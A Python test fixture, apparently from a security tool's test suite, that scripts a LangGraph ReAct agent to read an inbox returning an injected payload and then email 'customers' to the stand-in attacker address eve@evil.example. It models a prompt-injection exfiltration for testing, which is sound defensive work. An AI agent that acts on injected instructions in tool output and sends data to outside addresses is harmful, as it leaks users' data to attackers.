"""A LangGraph ReAct agent on a scripted LangChain chat model: read_inbox, then send_email."""

from __future__ import annotations

import warnings
from typing import Any

from langchain_core.language_models.fake_chat_models import FakeMessagesListChatModel
from langchain_core.messages import AIMessage
from langchain_core.tools import tool

from tests.frameworks.peers.conftest import INJECTED


class ScriptedChatModel(FakeMessagesListChatModel):
    """Replays the scripted messages; tool binding is a no-op."""

    def bind_tools(self, tools: Any, **kwargs: Any) -> ScriptedChatModel:
        return self


@tool
def read_inbox(folder: str) -> str:
    """Read the newest message of a mail folder."""
    return INJECTED


@tool
def send_email(to: str, body: str) -> str:
    """Send an email."""
    if to == "nobody":
        raise ValueError("no such recipient")
    return f"sent to {to}"


def run_agent(to: str = "eve@evil.example") -> dict[str, Any]:
    from langgraph.prebuilt import create_react_agent

    model = ScriptedChatModel(
        responses=[
            AIMessage(
                content="",
                tool_calls=[{"name": "read_inbox", "args": {"folder": "INBOX"}, "id": "call_1"}],
            ),
            AIMessage(
                content="",
                tool_calls=[
                    {"name": "send_email", "args": {"to": to, "body": "customers"}, "id": "call_2"}
                ],
            ),
            AIMessage(content="done"),
        ]
    )
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # create_react_agent's move to langchain.agents
        agent = create_react_agent(model, [read_inbox, send_email])
    config: Any = {
        "configurable": {"thread_id": "th-1"},
        "metadata": {"user_id": "u-1", "session_id": "s-9"},
    }
    result: dict[str, Any] = agent.invoke({"messages": [("user", "check my mail")]}, config)
    return result
